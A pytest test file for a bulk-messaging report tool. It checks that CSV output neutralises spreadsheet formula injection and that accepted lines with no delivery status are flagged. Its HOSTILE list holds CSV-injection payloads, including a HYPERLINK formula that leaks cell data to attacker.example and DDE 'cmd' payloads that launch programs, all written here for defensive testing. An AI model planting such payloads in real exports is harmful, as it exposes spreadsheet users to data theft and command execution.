"""`d360 bulk report` on journals a hostile upstream and a missing listener leave: CSV cells a spreadsheet
would run are made inert, and accepted lines with no status are shown as such, with what that means."""

from __future__ import annotations

import csv
import json
import sqlite3
import subprocess
from pathlib import Path

import pytest

from d360 import sandbox
from d360.bulk.report import spreadsheet_safe
from tests.test_bulk import KEY, bulk, write_jsonl
from tests.test_cli import D360

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign: a formula to some spreadsheets
]


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished campaign of 10 lines, sent with no listener: every line accepted, none with a status."""
    folder = tmp_path_factory.mktemp("report")
    journal = folder / "campaign.sqlite"
    with sandbox.running([KEY]) as served:
        done = bulk(served.base_url, str(write_jsonl(folder / "campaign.jsonl", 10)), "--journal", str(journal))
    assert done.returncode == 0, done.stderr
    return journal


def report(journal: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    result = subprocess.run([D360, "bulk", "report", str(journal), *arguments], capture_output=True, text=True,
                            timeout=60, check=False)  # fmt: skip
    assert result.returncode == 0, result.stderr
    return result


def copy_of(journal: Path, folder: Path) -> Path:
    copy = folder / "copy.sqlite"
    with sqlite3.connect(journal) as source, sqlite3.connect(copy) as target:
        source.backup(target)
    return copy


@pytest.mark.parametrize("text", [*HOSTILE, "fine", "wamid.HBgL", "1-2", ""])
def test_a_cell_that_starts_like_a_formula_gets_a_quote_and_no_other_does(text: str) -> None:
    assert spreadsheet_safe(text) == ("'" + text if text in HOSTILE else text)


def test_the_csv_neutralises_text_from_outside_and_leaves_numbers_alone(campaign: Path, tmp_path: Path) -> None:
    journal = copy_of(campaign, tmp_path)
    with sqlite3.connect(journal) as db:
        for number, text in enumerate(HOSTILE, start=1):  # as upstream's answers and statuses could carry them
            db.execute(
                "UPDATE lines SET message_id = ?, error = ?, delivery = 'failed', delivery_code = 131047, "
                "delivery_error = ? WHERE line_number = ?",
                (text, text, text, number),
            )
        db.execute("UPDATE lines SET delivery_code = -5 WHERE line_number = 1")
    out = tmp_path / "report.csv"
    report(journal, "--csv", str(out))
    rows = {row["line_number"]: row for row in csv.DictReader(out.open(newline="", encoding="utf-8"))}
    for number, text in enumerate(HOSTILE, start=1):
        row = rows[str(number)]
        assert (row["message_id"], row["error"], row["delivery_error"]) == ("'" + text,) * 3
    assert rows["1"]["delivery_code"] == "-5" and rows["2"]["delivery_code"] == "131047"  # d360's numbers as they are
    assert rows["9"]["message_id"].startswith("wamid.") and rows["9"]["attempts"] == "1"
    assert float(rows["9"]["created_at"]) > 0
    # The page and the JSON carry the text as it came, escaped for their own kind.
    page = tmp_path / "report.html"
    report(journal, "--html", str(page))
    assert "&lt;" not in HOSTILE[0] and "=HYPERLINK(&quot;http://attacker.example" in page.read_text(encoding="utf-8")
    problems = json.loads(report(journal, "--json").stdout)["funnel"]["failures"]
    assert problems[0]["error"] in HOSTILE


def test_accepted_lines_with_no_status_are_shown_as_such_with_how_to_get_statuses(
    campaign: Path, tmp_path: Path
) -> None:
    listen = f"d360 webhook listen --journal {campaign}"
    text = report(campaign).stdout
    assert "  no status       10  100.0%  (accepted; no status for them yet)" in text
    assert "10 accepted lines have no status: no status webhook for them has reached this journal" in text
    assert listen in text and "while the run goes or after it" in text
    summary = json.loads(report(campaign, "--json").stdout)
    assert summary["no_status"]["lines"] == 10 and listen in summary["no_status"]["note"]
    out = tmp_path / "report.csv"
    report(campaign, "--csv", str(out))
    assert {row["delivery"] for row in csv.DictReader(out.open(newline="", encoding="utf-8"))} == {"no status"}
    page = tmp_path / "report.html"
    report(campaign, "--html", str(page))
    assert '<p class="note" id="no-status">10 accepted lines have no status' in page.read_text(encoding="utf-8")


def test_a_campaign_whose_every_line_has_a_status_says_nothing_about_missing_ones(
    campaign: Path, tmp_path: Path
) -> None:
    journal = copy_of(campaign, tmp_path)
    with sqlite3.connect(journal) as db:
        db.execute("UPDATE lines SET delivery = 'read'")
    text = report(journal).stdout
    assert "no status" not in text.split("funnel")[1]
    assert json.loads(report(journal, "--json").stdout)["no_status"] == {"lines": 0, "note": None}
    page = tmp_path / "report.html"
    report(journal, "--html", str(page))
    assert 'id="no-status"' not in page.read_text(encoding="utf-8")
